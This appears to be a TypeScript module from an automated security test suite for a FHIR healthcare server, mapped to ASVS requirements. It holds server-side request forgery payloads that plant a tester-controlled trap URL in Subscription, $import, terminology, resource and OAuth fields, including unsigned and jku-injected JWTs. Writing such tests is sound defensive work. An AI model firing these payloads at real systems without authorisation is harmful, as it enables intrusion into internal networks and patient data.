import { attack, type Family, loot } from "./attack.ts";
import type { Target } from "./target.ts";

/** Bodies that name a machine inside the house in every place that could make the product call it. */
const lures = (trap: string): readonly (readonly [path: string, body: object])[] => [
  [
    "/fhir/Subscription",
    {
      resourceType: "Subscription",
      status: "requested",
      reason: "x",
      criteria: "Patient?",
      channel: { type: "rest-hook", endpoint: trap },
    },
  ],
  [
    "/fhir/$import",
    parameters({
      name: "input",
      part: [
        { name: "type", valueCode: "Patient" },
        { name: "url", valueUri: trap },
      ],
    }),
  ],
  [
    "/fhir/$import",
    parameters({ name: "inputSource", valueUri: trap }, { name: "exportUrl", valueUrl: trap }),
  ],
];

/** The same in terminology and in rows that are only stored. */
const quietLures = (trap: string): readonly (readonly [path: string, body: object])[] => [
  ["/fhir/ValueSet/$expand", parameters({ name: "url", valueUri: `${trap}/vs` })],
  [
    "/fhir/CodeSystem/$lookup",
    parameters({ name: "system", valueUri: trap }, { name: "code", valueCode: "x" }),
  ],
  ["/fhir/Patient/$validate", { resourceType: "Patient", meta: { profile: [`${trap}/profile`] } }],
  [
    "/fhir/Patient",
    { resourceType: "Patient", generalPractitioner: [{ reference: `${trap}/fhir/Practitioner/1` }] },
  ],
  [
    "/fhir/DocumentReference",
    {
      resourceType: "DocumentReference",
      status: "current",
      content: [{ attachment: { url: `${trap}/file` } }],
    },
  ],
  [
    "/fhir/Endpoint",
    {
      resourceType: "Endpoint",
      status: "active",
      connectionType: { code: "x" },
      payloadType: [{ text: "x" }],
      address: trap,
    },
  ],
  [
    "/api/reporting/views",
    {
      name: "zq",
      url: trap,
      view: { resourceType: "ViewDefinition", url: trap, resource: "Patient", status: "active", select: [] },
    },
  ],
];

const parameters = (...parameter: readonly object[]) => ({ resourceType: "Parameters", parameter });

async function callAll(target: Target): Promise<void> {
  const { all } = target.askers;
  const { url: trap } = target.trap;
  for (const [path, body] of [...lures(trap), ...quietLures(trap)])
    await target.send({ method: "POST", path, headers: all, body });
  for (const path of [
    `/fhir/Patient?general-practitioner=${trap}/fhir/Practitioner/1&_include=*`,
    `/fhir/Patient?general-practitioner.name=x&_include=Patient:general-practitioner`,
    `/fhir/ValueSet/$expand?url=${trap}/vs`,
    `/fhir/Observation?code:in=${trap}/vs`,
    `/fhir/Patient?_profile=${trap}/p`,
    `/fhir/Patient?_source=${trap}`,
    `/oauth/authorize?client_id=${trap}&request_uri=${trap}/r&redirect_uri=${trap}/cb&response_type=code&scope=openid`,
    `/oauth/authorize?client_id=${target.client.client_id}&request=eyJhbGciOiJub25lIn0.e30.&redirect_uri=${trap}`,
  ])
    await target.send({ path, headers: all });
  const assertion = `${Buffer.from(JSON.stringify({ alg: "RS256", jku: `${trap}/jwks` })).toString("base64url")}.e30.AA`;
  const form = {
    grant_type: "client_credentials",
    client_id: target.client.client_id,
    client_assertion: assertion,
    client_assertion_type: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
  };
  await target.send({
    method: "POST",
    path: "/oauth/token",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams(form).toString(),
  });
}

const lured = attack({
  name: "names a machine inside the house wherever an address is taken, to make the product call it",
  asvs: ["1.3.6", "13.2.5", "15.3.2"],
  run: async (target) => {
    const { gains, when } = loot();
    const before = target.trap.caught();
    await callAll(target);
    when(target.trap.caught() !== before, "the product called a machine inside the house");
    return gains;
  },
});

export const outgoingAttacks: Family = { family: "way out", attacks: [lured] };
